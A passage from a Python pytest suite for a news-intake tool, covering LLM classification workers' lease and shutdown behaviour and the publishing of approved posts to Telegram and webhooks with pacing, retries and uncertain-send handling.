                            env={**os.environ, "OLLAMA_URL": ollama_url,
                                 **({"VESTI_DB": BACKEND["db"]} if BACKEND["db"] else {}),
                                 **(env or {})})


@pytest.mark.slow
@both
def test_a_killed_worker_is_finished_by_the_next_one_after_the_lease(home, closing):
    fake = closing(FakeOllama(latency=0.1))
    s, db, _ = worker_home(home, fake.url)
    add_posts(db.conn(), 30)
    process = worker_process(home, fake.url, "--workers", "4")
    assert wait_for(lambda: queue_of(db).get(1, 0) >= 8)
    process.kill()
    process.communicate()
    in_flight = {r[0] for r in db.conn().execute("SELECT title FROM posts WHERE classified = -1")}
    done_before = {r[0] for r in db.conn().execute("SELECT title FROM posts WHERE classified = 1")}
    assert in_flight and len(in_flight) <= 2 * 4    # asked, and the next one ready
    outlive_lease(db, process, 1)
    result = cli("worker", "--workers", "4", cwd=home,
                 env={"OLLAMA_URL": fake.url, "VESTI_LEASE_SECONDS": "1"})
    assert result.returncode == 0
    assert queue_of(db) == {1: 30}
    asked = {}
    for title in fake.titles():
        asked[title] = asked.get(title, 0) + 1
    redone = {t for t, n in asked.items() if n > 1}
    assert redone <= in_flight                   # only posts in flight were redone
    assert not redone & done_before
    assert set(asked) == {f"Post {k}" for k in range(30)}


@pytest.mark.slow
@both
def test_sigterm_stops_the_worker_cleanly(home, closing):
    fake = closing(FakeOllama(latency=0.3))
    s, db, _ = worker_home(home, fake.url)
    add_posts(db.conn(), 40)
    process = worker_process(home, fake.url, "--workers", "4")
    assert wait_for(lambda: queue_of(db).get(1, 0) >= 4)
    process.send_signal(signal.SIGTERM)
    out, err = process.communicate(timeout=10)
    assert process.returncode == 0, err
    queue = queue_of(db)
    assert -1 not in queue and queue.get(1, 0) < 40
    assert queue.get(0, 0) + queue[1] == 40


@both
def test_a_claim_that_lands_after_a_stop_is_given_back(home, monkeypatch):
    s, db, registry = worker_home(home, "")
    add_posts(db.conn(), 1)
    stop = threading.Event()
    pool = vesti.WorkerPool(db, s, vesti.Classifier(registry, s), stop)
    real_claim = vesti.claim_posts

    def claim_while_stopping(conn, limit, *args):
        stop.set()                       # SIGTERM arrives while the claim waits for the lock
        return real_claim(conn, limit, *args)
    monkeypatch.setattr(vesti, "claim_posts", claim_while_stopping)
    assert pool.take_turn(db.conn(), [], 1) == []
    assert tuple(db.conn().execute("SELECT classified, attempts FROM posts").fetchone()) == (0, 0)
    assert pool.release_unfinished(wait=1) == 0


@postgres_only
def test_a_claim_takes_no_more_posts_than_it_asks_for_whatever_plan_postgresql_chooses(home):
    """PostgreSQL may join each post to the claim's choice of the oldest
    pending posts (it does when it believes the table tiny): the choice is
    made once, or a claim of one post would take the whole queue and hold it
    in one worker's hand."""
    s, db, _ = worker_home(home, "")
    add_posts(db.conn(), 40)
    conn = db.conn()
    for method in ("hashjoin", "hashagg", "mergejoin", "material", "sort"):
        conn.execute(f"SET enable_{method} = off")       # leaves it the nested loop
    for asked in (1, 3):
        with vesti.transaction(conn, shared=True):
            assert len(vesti.claim_posts(conn, asked)) == asked
    assert queue_of(db) == {-1: 4, 0: 36}


@both
def test_fast_posts_are_claimed_in_batches_and_the_limit_still_holds(home, monkeypatch):
    """Keyword-only posts: many verdicts share one transaction with the next
    claim, and --limit still counts single posts, none left claimed."""
    s, db, registry = worker_home(home, "")
    add_posts(db.conn(), 400)
    turns = []
    real_turn = vesti.complete_and_claim

    def counted_turn(conn, completions, claims, **options):
        turns.append(len(completions))
        return real_turn(conn, completions, claims, **options)
    monkeypatch.setattr(vesti, "complete_and_claim", counted_turn)
    stats, finished = vesti.run_workers(db, s, registry, workers=4, limit=150, quiet=True)
    assert finished and stats.done == 150
    assert queue_of(db) == {1: 150, 0: 250}
    attempts = dict(db.conn().execute("SELECT classified, max(attempts) FROM posts GROUP BY 1"))
    assert attempts == {1: 1, 0: 0}              # the posts not taken kept their attempts
    assert max(turns) > 1 and len(turns) < 150 / 2


@pytest.mark.slow
@both
def test_a_post_waiting_for_the_llm_does_not_hold_the_posts_claimed_with_it(home, closing):
    """A batch of quick posts with one that needs the LLM: the rest of the
    batch goes back to the queue, and another worker does it meanwhile."""
    fake = closing(FakeOllama(latency=1.2))
    s, db, registry = worker_home(home, fake.url)
    conn = db.conn()
    add_posts(conn, 40, text="Weather in the mountains.")
    add_posts(conn, 1, text="News about the Linux kernel.", start=40)
    add_posts(conn, 40, text="Weather in the mountains.", start=41)
    result = {}
    worker = threading.Thread(target=lambda: result.update(
        stats=vesti.run_workers(db, s, registry, workers=2, quiet=True)[0]))
    worker.start()
    try:
        assert wait_for(lambda: queue_of(db) == {1: 80, -1: 1}, timeout=1.0,
                        state=lambda: queue_of(db))
    finally:
        worker.join(timeout=20)
    assert queue_of(db) == {1: 81}
    assert fake.titles() == ["Post 40"]
    assert result["stats"].done == 81
    assert db.conn().execute("SELECT max(attempts) FROM posts").fetchone()[0] == 1


@both
def test_a_worker_writes_and_claims_while_the_llm_answers(home, closing):
    """While Ollama thinks about a post, its worker writes the verdict before
    it and claims and prepares the post after it: the LLM never waits for the
    database."""
    queue_when_answered = {}

    class Watching(FakeOllama):
        def answer(self, body):                  # after the thinking time
            title = body["messages"][-1]["content"].splitlines()[0]
            queue_when_answered[title] = queue_of(db)
            return super().answer(body)
    fake = closing(Watching(latency=0.3))
    s, db, registry = worker_home(home, fake.url)
    add_posts(db.conn(), 4)
    stats, _ = vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert stats.done == 4 and queue_of(db) == {1: 4}
    assert fake.titles() == ["Post 0", "Post 1", "Post 2", "Post 3"]
    # Post 1 answered: post 0 written, posts 1 and 2 held, post 3 waiting.
    assert queue_when_answered["Post 1"] == {1: 1, -1: 2, 0: 1}
    assert queue_when_answered["Post 2"] == {1: 2, -1: 2}


@both
def test_a_stop_in_the_middle_of_a_batch_writes_what_is_done_and_gives_back_the_rest(home):
    s, db, registry = worker_home(home, "")
    add_posts(db.conn(), 200)
    stop = threading.Event()
    classifier = vesti.Classifier(registry, s)
    seen = []

    def classify(post):
        seen.append(post.id)
        if len(seen) == 60:
            stop.set()                   # SIGTERM with a batch in hand
        return classifier(post)
    stats, finished = vesti.run_workers(db, s, registry, workers=1, classify=classify,
                                        stop=stop, quiet=True)
    assert finished and stats.done == 60
    assert queue_of(db) == {1: 60, 0: 140}
    assert db.conn().execute("SELECT max(attempts) FROM posts WHERE classified = 0").fetchone()[0] == 0


def test_sigterm_releases_a_post_stuck_in_a_long_llm_call(home, closing):
    fake = closing(FakeOllama(latency=30))
    s, db, _ = worker_home(home, fake.url)
    add_posts(db.conn(), 1)
    process = worker_process(home, fake.url, "--workers", "1",
                             env={"OLLAMA_TIMEOUT": "60", "VESTI_STOP_GRACE": "0.5"})
    assert wait_for(lambda: queue_of(db).get(-1, 0) == 1)
    fake_started = time.monotonic()
    process.send_signal(signal.SIGTERM)
    out, err = process.communicate(timeout=15)
    assert process.returncode == 0, err
    assert time.monotonic() - fake_started < 4
    post = db.conn().execute("SELECT classified, attempts FROM posts").fetchone()
    assert tuple(post) == (0, 0)                  # back, its attempt not counted
    assert "1 put back unfinished" in out


@pytest.mark.slow
@both
def test_16_workers_and_a_crawl_at_once_never_see_database_is_locked(home, server):
    feeds = []
    for n in range(10):
        server.feed(f"/f{n}", rss(items(25, start=100 * n, host=server.url)))
        feeds.append(rss_source(f"f{n}", f"{server.url}/f{n}"))
    s, db = intake(home, feeds, OLLAMA_URL="")
    registry = vesti.load_registry(s.sources)
    add_posts(db.conn(), 350, text="Linux kernel news. " * 5)
    db.conn().execute("UPDATE posts SET text = text || ' Item ' || id")     # each its own story
    crawl_result = {}
    crawler = threading.Thread(target=lambda: crawl_result.update(summary=crawl(s, db)))
    crawler.start()
    vesti.run_workers(db, s, registry, workers=16, forever=False, quiet=True)
    crawler.join()
    vesti.run_workers(db, s, registry, workers=16, quiet=True)   # what the crawl added meanwhile
    assert crawl_result["summary"].count("ok") == 10
    assert queue_of(db) == {1: 600}
    errors = db.conn().execute("SELECT count(*) FROM posts WHERE error IS NOT NULL").fetchone()[0]
    assert errors == 0


# Publishing -------------------------------------------------------------------

CHANNEL = {"name": "channel", "telegram": "@vesti_test"}


def publish_home(home, bot=None, targets=(CHANNEL,), **settings):
    """A home with one source, publish targets, and the bot's settings."""
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss",
                                                     direction="linux")])
    with open(home / "sources.yaml", "a", encoding="utf-8") as f:
        f.write("publish:\n" + yaml.safe_dump(list(targets), allow_unicode=True))
    if bot is not None:
        settings = {"TG_BOT_TOKEN": bot.TOKEN, "TG_BOT_API": bot.url, **settings}
    s = make_settings(home, **settings)
    registry, db = vesti.open_intake(s)
    return s, db, source_row(db, "lwn")["id"]


class Clock:
    """A wall clock the test moves."""

    def __init__(self):
        self.now = time.time()

    def __call__(self):
        return self.now


def publications(conn, target=None):
    return conn.execute("SELECT * FROM publications" + (" WHERE target = ?" if target else "")
                        + " ORDER BY id", (target,) if target else ()).fetchall()


def shown_titles(bot):
    return [re.search(r"<b>(.*?)</b>", text)[1] for text in bot.sent()]


@both
def test_approved_posts_go_out_one_by_one_in_approval_order_at_the_targets_pace(home, bot):
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "10m"}])
    conn = db.conn()
    ids = [desk_post(conn, lwn_id, k) for k in range(5)]
    for k in (3, 1, 4, 0, 2):
        vesti.set_decisions(conn, [ids[k]], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    sent_at = []
    for k in range(5):
        publisher.look()
        sent_at.append(clock.now)
        if k < 4:
            assert publisher.look() == pytest.approx(600, abs=2)     # paced: nothing more yet
        clock.now += 600
    assert shown_titles(bot) == ["Post 3", "Post 1", "Post 4", "Post 0", "Post 2"]
    assert all(b - a >= 600 - 1 for a, b in zip(sent_at, sent_at[1:]))
    assert [row["state"] for row in publications(conn)] == ["published"] * 5
    first = bot.messages[0]
    assert first["chat"] == "@vesti_test" and "#linux" in first["text"]
    assert '<a href="http://x/3">' in first["text"] and "Summary 3" in first["text"]
    assert publisher.look() is None       # nothing waits


def test_a_text_longer_than_telegram_allows_is_cut_and_keeps_its_link(home, bot):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    post = desk_post(conn, lwn_id, 1, title="Long <read> & more")
    conn.execute("UPDATE posts SET summary = ? WHERE id = ?", ("word " * 2000 + "<tail>", post))
    vesti.set_decisions(conn, [post], "approved", "ed")
    vesti.Publisher(db, s).look()
    [message] = bot.messages
    assert len(message["shown"]) <= 4096 and message["shown"].endswith("#linux")
    assert '<a href="http://x/1">' in message["text"]
    assert "<b>Long &lt;read&gt; &amp; more</b>" in message["text"]


def test_an_edited_text_is_what_is_sent_and_publish_now_skips_the_pace(home, bot, closing):
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "1h"}],
                                 VESTI_WEB_PASSWORD="s3cret")
    web = closing(Web(home, settings=s))
    conn = db.conn()
    first, second = desk_post(conn, lwn_id, 1), desk_post(conn, lwn_id, 2)
    vesti.set_decisions(conn, [first, second], "approved", "ed")
    publisher = vesti.Publisher(db, s)
    publisher.look()
    waiting = publications(conn)[1]
    assert waiting["state"] == "queued"
    page = web.get("/outbox")[2]
    assert f'id="publication-{waiting["id"]}"' in page and "Publish now" in page
    assert "Summary 2" in re.search(r'<textarea name="text"[^>]*>(.*?)</textarea>', page, re.S)[1]
    edited = "AT&T and R&D: prices < $5\nsee https://example.com/a?b=1&c=2"
    status, _, _ = web.post(f"/publications/{waiting['id']}",
                            {"token": web.token(), "action": "text", "text": edited,
                             "seen": "queued"})
    assert status == 303
    assert publisher.look() > 3000          # still paced
    assert web.post(f"/publications/{waiting['id']}", {"token": web.token(), "action": "now"},
                    headers={"Accept": "application/json"})[0] == 200
    publisher.look()
    assert bot.messages[-1]["text"] == (
        "<b>AT&amp;T and R&amp;D: prices &lt; $5</b>\nsee "
        '<a href="https://example.com/a?b=1&amp;c=2">https://example.com/a?b=1&amp;c=2</a>')
    assert bot.messages[-1]["shown"] == edited
    desk = web.get("/?status=approved")[2]
    assert desk.count('class="small muted outbox-line"') == 2
    assert f'#publication-{waiting["id"]}">channel</a> published' in desk
    # The page it was edited on is out of date now: it is said, not done.
    status, _, text = web.post(f"/publications/{waiting['id']}",
                               {"token": web.token(), "action": "cancel", "seen": "queued"})
    assert status == 409 and "published" in text
    # And a post from another site is refused.
    assert web.post(f"/publications/{waiting['id']}", {"token": "x", "action": "text",
                                                      "text": "evil"})[0] == 403


def test_a_429_pauses_the_target_as_long_as_asked_then_the_post_goes_once(home, bot):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    bot.script = [("429", 7)]
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    assert publisher.look() == pytest.approx(7, abs=1)
    row = publications(conn)[0]
    assert row["state"] == "queued" and row["attempts"] == 0 and "retry after 7" in row["error"]
    clock.now += 3
    assert publisher.look() == pytest.approx(4, abs=1) and not bot.messages
    clock.now += 5
    publisher.look()
    assert len(bot.messages) == 1 and publications(conn)[0]["state"] == "published"
    assert [m for m, *_ in bot.calls] == ["sendMessage", "sendMessage"]


def test_server_errors_retry_a_webhook_make_a_telegram_send_uncertain_and_a_refusal_fails(home, bot,
                                                                                          closing):
    receiver = closing(WebhookReceiver("k"))
    s, db, lwn_id = publish_home(
        home, bot, [CHANNEL, {"name": "cms", "webhook": receiver.url + "/in"},
                    {"name": "gone", "telegram": "@nowhere_chat"}],
        VESTI_PUBLISH_ATTEMPTS="2", VESTI_WEBHOOK_SECRET="k")
    conn = db.conn()
    bot.script = [("500",)]
    receiver.script = [503, 503]
    first = desk_post(conn, lwn_id, 1)
    vesti.set_decisions(conn, [first], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    states = {row["target"]: row for row in publications(conn)}
    # A chat that is not there pauses its target; its posts wait, none failed.
    assert states["gone"]["state"] == "queued" and states["gone"]["attempts"] == 0
    assert "400 Bad Request: chat not found" in states["gone"]["error"]
    # Telegram's 500 may have come after the message went out: never sent again on its own.
    assert states["channel"]["state"] == "uncertain" and "500" in states["channel"]["error"]
    # A webhook's 503 is tried again with backoff, until its attempts run out.
    assert states["cms"]["state"] == "queued" and states["cms"]["next_attempt_at"]
    clock.now += vesti.PUBLISH_BACKOFF + 1
    publisher.look()
    cms = publications(conn, "cms")[0]
    assert cms["state"] == "failed" and cms["attempts"] == 2 and "503" in cms["error"]
    assert len(receiver.deliveries) == 2
    # Its channel waits before the next send: an outage does not turn the
    # whole queue uncertain, one post after another.
    bot.script = [("400", "Bad Request: message text is empty")]
    second = desk_post(conn, lwn_id, 2)
    vesti.set_decisions(conn, [second], "approved", "ed")
    sends = len([call for call in bot.calls if call[0] == "sendMessage"])
    publisher.look()
    row = [row for row in publications(conn, "channel") if row["post_id"] == second][0]
    assert row["state"] == "queued" and \
        len([call for call in bot.calls if call[0] == "sendMessage"]) == sends
    # Sent again by an editor, the uncertain one waits its turn too.
    uncertain = states["channel"]["id"]
    assert not vesti.act_on_publication(conn, uncertain, "again", "ed").hurry
    # A refusal of the message itself fails it at once, with the reason.
    clock.now += vesti.DOUBT_PAUSE + 1
    publisher.look()
    rows = {row["post_id"]: row for row in publications(conn, "channel")}
    assert rows[first]["state"] == "failed" and "message text is empty" in rows[first]["error"]
    assert rows[second]["state"] == "published" and len(bot.messages) == 1


def test_a_send_that_may_have_arrived_counts_for_the_pace_and_publish_now_still_goes(home, bot):
    """On a paced channel a doubtful send counts as a send: the next post
    waits its pace, so an outage does not make the whole queue uncertain;
    an editor's Publish now goes out at once, as after any send, and Send
    again waits its turn."""
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "1h"}])
    conn = db.conn()
    bot.script = [("500",)]
    posts = [desk_post(conn, lwn_id, k) for k in range(3)]
    vesti.set_decisions(conn, posts, "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    rows = publications(conn)
    assert [row["state"] for row in rows] == ["uncertain", "queued", "queued"]
    assert not bot.messages
    vesti.act_on_publication(conn, rows[0]["id"], "again", "ed")
    clock.now += 60
    publisher.look()
    assert [row["state"] for row in publications(conn)] == ["queued", "queued", "queued"]
    vesti.act_on_publication(conn, rows[2]["id"], "now", "ed")
    publisher.look()
    assert [row["state"] for row in publications(conn)] == ["queued", "queued", "published"]
    assert shown_titles(bot) == ["Post 2"]
    # One sent now that may have arrived, then sent again, waits its turn as well.
    bot.script = [("500",)]
    vesti.act_on_publication(conn, rows[1]["id"], "now", "ed")
    publisher.look()
    assert publications(conn)[1]["state"] == "uncertain"
    assert not vesti.act_on_publication(conn, rows[1]["id"], "again", "ed").hurry
    publisher.look()
    assert [row["state"] for row in publications(conn)] == ["queued", "queued", "published"]


def test_an_unreachable_bot_api_or_webhook_keeps_the_post_queued_and_names_no_secret(home, closing):
    with socket.socket() as probe:      # a port nobody listens on: connections are refused
        probe.bind(("127.0.0.1", 0))
        address = f"http://127.0.0.1:{probe.getsockname()[1]}"
    s, db, lwn_id = publish_home(
        home, targets=[CHANNEL, {"name": "cms", "webhook": address + "/hooks/T0/B0/s3cr3tpath"}],
        TG_BOT_TOKEN="123:very-secret-token", TG_BOT_API=address, VESTI_WEBHOOK_SECRET="k",
        VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    vesti.Publisher(db, s).look()
    for row in publications(conn):
        assert row["state"] == "queued" and row["next_attempt_at"] and row["attempts"] == 1
        assert "not sent: connection refused" in row["error"]
        assert "very-secret-token" not in row["error"]
    web = closing(Web(home, settings=s))
    page = web.get("/outbox")[2]
    assert "not sent" in page and "s3cr3tpath" not in page and "very-secret" not in page


def test_taking_a_decision_back_cancels_what_waits_and_deletes_what_was_sent(home, bot):
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "1h"}])
    conn = db.conn()
    sent, waiting = desk_post(conn, lwn_id, 1), desk_post(conn, lwn_id, 2)
    vesti.set_decisions(conn, [sent, waiting], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    message_id = bot.messages[0]["message_id"]
    vesti.set_decisions(conn, [sent, waiting], "new", "ed")
    publisher.look()
    assert [(m, p["message_id"]) for m, p, _ in bot.calls if m == "deleteMessage"] == \
        [("deleteMessage", message_id)]
    rows = {row["post_id"]: row for row in publications(conn)}
    assert rows[sent]["state"] == "cancelled" and rows[sent]["deleted_at"]
    assert rows[waiting]["state"] == "cancelled" and not bot.messages
    assert len(bot.sent()) == 1          # the second post was never sent
    # Approved again, it goes again, at the target's pace.
    vesti.set_decisions(conn, [waiting], "approved", "ed")
    publisher.look()
    assert publications(conn)[1]["state"] == "queued"
    clock.now += 3600
    publisher.look()
    assert [m["text"] for m in bot.messages] == [vesti.message_html(publications(conn)[1]["text"])]
    assert "<b>Post 2</b>" in bot.messages[0]["text"]
    assert publications(conn)[1]["state"] == "published"


def test_a_publisher_killed_between_the_send_and_its_record_leaves_it_uncertain(home, bot,
                                                                               closing):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    bot.script = [("hang", 60)]
    post = desk_post(conn, lwn_id, 1)
    vesti.set_decisions(conn, [post], "approved", "ed")
    env = {"TG_BOT_TOKEN": bot.TOKEN, "TG_BOT_API": bot.url}
    process = closing(subprocess.Popen([*VESTI, "publish", "--forever"], cwd=home,
                                       env=cli_env(env), stdout=subprocess.PIPE,
                                       stderr=subprocess.PIPE, text=True))
    assert bot.posted.wait(30), process.stderr.read() if process.poll() is not None else ""
    assert publications(conn)[0]["state"] == "sending"
    process.kill()
    process.wait()
    # Its lease still holds the target: nobody else sends to it meanwhile.
    result = cli("publish", cwd=home, env=env)
    assert result.returncode == 0, result.stderr
    assert "channel is being sent by" in result.stdout and "0 sent" in result.stdout
    assert publications(conn)[0]["state"] == "sending" and len(bot.messages) == 1
    # Once the lease ran out, the next sender finds the send unfinished.
    clock = Clock()
    clock.now += 3600
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    assert publisher.uncertain == 1 and publisher.sent == 0
    row = publications(conn)[0]
    assert row["state"] == "uncertain" and "may or may not have arrived" in row["error"]
    assert len(bot.messages) == 1             # never sent again on its own
    assert cli("publish", cwd=home, env=env).returncode == 0 and len(bot.messages) == 1
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret", **env)))
    page = web.get("/outbox")[2]
    assert "Mark published" in page and "Send again" in page
    assert web.post(f"/publications/{row['id']}", {"token": web.token(),
                                                   "action": "published"})[0] == 303
    assert publications(conn)[0]["state"] == "published"
    assert bot.TOKEN not in result.stdout + result.stderr


@pytest.mark.parametrize("command", [["publish", "--forever"], ["run", "--workers", "0"]])
def test_a_publisher_stopped_during_a_send_leaves_it_uncertain_and_the_target_free(home, bot,
                                                                                   closing, command):
    """Stopped (SIGTERM) while the Bot API has not answered: the send is
    uncertain at once, and the next sender need not wait for the lease."""
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    bot.script = [("hang", 60)]
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    env = {"TG_BOT_TOKEN": bot.TOKEN, "TG_BOT_API": bot.url, "VESTI_STOP_GRACE": "0.5",
           "VESTI_WEB_PORT": "0", "VESTI_WEB_PASSWORD": "s3cret", "OLLAMA_URL": ""}
    process = closing(subprocess.Popen([*VESTI, *command], cwd=home,
                                       env=cli_env(env), stdout=subprocess.PIPE,
                                       stderr=subprocess.PIPE, text=True))
    assert bot.posted.wait(30), process.stderr.read() if process.poll() is not None else ""
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=30)
    assert process.returncode == 0, stderr
    assert "stopped during a send; it is uncertain" in stderr
    row = publications(conn)[0]
    assert row["state"] == "uncertain" and "VESTI stopped before the answer came" in row["error"]
    target = conn.execute("SELECT sender, last_sent_at FROM targets WHERE name = 'channel'").fetchone()
    assert target["sender"] is None and target["last_sent_at"]     # it counts for the pace
    result = cli("publish", cwd=home, env=env)
    assert "being sent by" not in result.stdout and len(bot.messages) == 1


@both
def test_two_publishers_at_once_send_each_post_once_in_order(home, bot):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    ids = [desk_post(conn, lwn_id, k) for k in range(20)]
    for post in ids:
        vesti.set_decisions(conn, [post], "approved", "ed")
    env = {"TG_BOT_TOKEN": bot.TOKEN, "TG_BOT_API": bot.url}
    processes = [subprocess.Popen([*VESTI, "publish"], cwd=home, env=cli_env(env),
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for _ in range(2)]
    outputs = [process.communicate(timeout=60) for process in processes]
    assert all(process.returncode == 0 for process in processes), outputs
    assert shown_titles(bot) == [f"Post {k}" for k in range(20)]
    assert [row["state"] for row in publications(conn)] == ["published"] * 20


def test_a_webhook_is_signed_keeps_its_idempotency_key_on_retries_and_hears_of_an_undo(home,
                                                                                       closing):
    receiver = closing(WebhookReceiver("hook-secret"))
    s, db, lwn_id = publish_home(home, targets=[{"name": "cms", "webhook": receiver.url + "/in"}],
                                 VESTI_WEBHOOK_SECRET="hook-secret")
    conn = db.conn()
    post = desk_post(conn, lwn_id, 1)
    receiver.script = [503]
    vesti.set_decisions(conn, [post], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    clock.now += vesti.PUBLISH_BACKOFF + 1
    publisher.look()
    assert receiver.refused == 0 and len(receiver.deliveries) == 2
    (first, item), (again, same) = receiver.deliveries
    assert first["Idempotency-Key"] == again["Idempotency-Key"] and item == same
    assert item["id"] == str(post) and item["url"] == "http://x/1"
    assert item["title"] == "Post 1" and item["content_text"] == "Summary 1"
    assert item["direction"] == "linux" and item["decided_by"] == "ed"
    assert item["source"] == "lwn" and item["decided_at"].endswith("Z")
    row = publications(conn)[0]
    assert row["state"] == "published" and row["message_id"] == '{"received": true}'
    vesti.set_decisions(conn, [post], "rejected", "ed")
    publisher.look()
    assert receiver.deliveries[-1][1] == {"event": "deleted", "id": str(post)}
    assert publications(conn)[0]["state"] == "cancelled"


def test_without_the_bots_token_nothing_is_lost_and_the_outbox_says_why(home, bot, closing):
    s, db, lwn_id = publish_home(home, targets=[CHANNEL], VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    vesti.Publisher(db, s).look()
    assert publications(conn)[0]["state"] == "queued"
    web = closing(Web(home, settings=s))
    assert "TG_BOT_TOKEN is not set" in web.get("/outbox")[2]
    s = make_settings(home, TG_BOT_TOKEN=bot.TOKEN, TG_BOT_API=bot.url)
    vesti.Publisher(db, s).look()
    assert publications(conn)[0]["state"] == "published" and len(bot.messages) == 1


def test_alerts_go_once_per_story_at_most_per_hour_and_the_rest_in_one_digest(home, bot):
    alert = {"name": "editors", "alert": "-1001234567890", "min_relevance": 8, "per_hour": 2}
    s, db, lwn_id = publish_home(home, bot, [alert], VESTI_PUBLIC_URL="https://desk.example")
    conn = db.conn()
    publisher = vesti.Publisher(db, s)
    publisher.look()                     # the target starts looking from here
    hot = [desk_post(conn, lwn_id, k, relevance=9) for k in range(4)]
    desk_post(conn, lwn_id, 10, relevance=5)
    copy = desk_post(conn, lwn_id, 11, relevance=9)
    backlog = desk_post(conn, lwn_id, 12, relevance=10)     # a new source's post of 2015
    conn.execute("UPDATE posts SET published_at = ?", (vesti.utc_text(),))
    conn.execute("UPDATE posts SET published_at = '2015-03-01 10:00:00' WHERE id = ?", (backlog,))
    conn.execute("UPDATE posts SET story_id = ? WHERE id IN (?, ?)", (hot[0], hot[0], copy))
    publisher.look()
    assert len(bot.messages) == 2
    single, digest = bot.messages
    assert "Post 0" in single["text"] and "relevance 9" in single["text"]
    assert f"https://desk.example/?status=any&amp;min=0&amp;story={hot[0]}" in single["text"]
    assert digest["text"].startswith("⚡ 3 stories")
    assert all(f"Post {k}" in digest["text"] for k in (1, 2, 3))
    assert "Post 10" not in digest["text"] + single["text"]
    assert "Post 12" not in digest["text"] + single["text"]
    rows = publications(conn, "editors")
    assert sorted(row["post_id"] for row in rows) == hot and {r["state"] for r in rows} == {"published"}
    conn.execute("UPDATE posts SET published_at = ? WHERE id = ?",
                 (vesti.utc_text(), desk_post(conn, lwn_id, 20, relevance=10)))
    publisher.look()
    assert len(bot.messages) == 2        # the hour's two messages are spent: it waits
    assert publications(conn, "editors")[-1]["state"] == "queued"


@pytest.mark.parametrize("target, expected", [
    ({"name": "x"}, "name exactly one of telegram, webhook or alert"),
    ({"name": "x", "telegram": "not a chat"}, "must be a chat the bot can post to"),
    ({"name": "x", "webhook": "ftp://h/x"}, "url must start with http"),
    ({"name": "x", "telegram": "@vesti_test", "every": "soon"}, "every must be a pace"),
    ({"name": "x", "telegram": "@vesti_test", "directions": ["sport"]}, "unknown direction 'sport'"),
    ({"name": "x", "telegram": "@vesti_test", "per_hour": 3}, "unknown field 'per_hour'"),
])
def test_a_wrong_publish_target_is_one_line_naming_file_and_line(home, target, expected):
    publish_home(home, targets=[CHANNEL])
    with open(home / "sources.yaml", "a", encoding="utf-8") as f:
        f.write(yaml.safe_dump([target]))
    result = cli("status", cwd=home)
    assert result.returncode == 2 and expected in result.stderr
    assert re.search(r"sources\.yaml:\d+: publish target", result.stderr)
    assert len(result.stderr.strip().splitlines()) == 1


def test_status_and_metrics_count_publications_by_target_and_state(home, bot):
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "1h"}])
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, k) for k in range(3)], "approved", "ed")
    vesti.Publisher(db, s).look()
    result = cli("status", cwd=home)
    assert "publish channel: queued 2, published 1" in result.stdout
    report = json.loads(cli("status", "--json", cwd=home).stdout)
    assert report["publications"] == {"channel": {"published": 1, "queued": 2}}
    metrics = vesti.metrics_text(conn)
    assert 'vesti_publications{target="channel",state="queued"} 2' in metrics


@pytest.mark.slow
def test_run_publishes_what_the_editor_approves_on_the_page(home, server, bot, closing):
    server.feed("/feed", rss(items(3, host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("lwn", server.url + "/feed", direction="linux")])
    with open(home / "sources.yaml", "a", encoding="utf-8") as f:
        f.write("publish:\n" + yaml.safe_dump([CHANNEL]))
    process, port = run_process(closing, home, env={"OLLAMA_URL": "", "TG_BOT_TOKEN": bot.TOKEN,
                                                    "TG_BOT_API": bot.url})
    auth = {"Authorization": "Basic " + base64.b64encode(b"admin:pw").decode()}

    def ask(method, path, body=None, headers=None):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        conn.request(method, path, body=body, headers={**auth, **(headers or {})})
        response = conn.getresponse()
        return response.status, response.read().decode()
    assert wait_for(lambda: ask("GET", "/")[1].count('class="post"') == 3, timeout=15)
    page = ask("GET", "/")[1]
    token = re.search(r'name="token" value="([0-9a-f]+)"', page)[1]
    post = card_ids(page)[0]
    status, _ = ask("POST", f"/posts/{post}/status", f"token={token}&status=approved",
                    {"Content-Type": "application/x-www-form-urlencoded",
                     "Origin": f"http://127.0.0.1:{port}", "Accept": "application/json"})
    assert status == 200
    assert wait_for(lambda: len(bot.messages) == 1, timeout=10)
    # the message is out before the row says so: wait for the row, not the bot
    assert wait_for(lambda: "published" in ask("GET", "/outbox")[1], timeout=10)
    assert len(bot.messages) == 1
    out, err = stop_process(process)
    assert process.returncode == 0, err
    assert bot.TOKEN not in out + err


# The outbox as one state machine --------------------------------------------

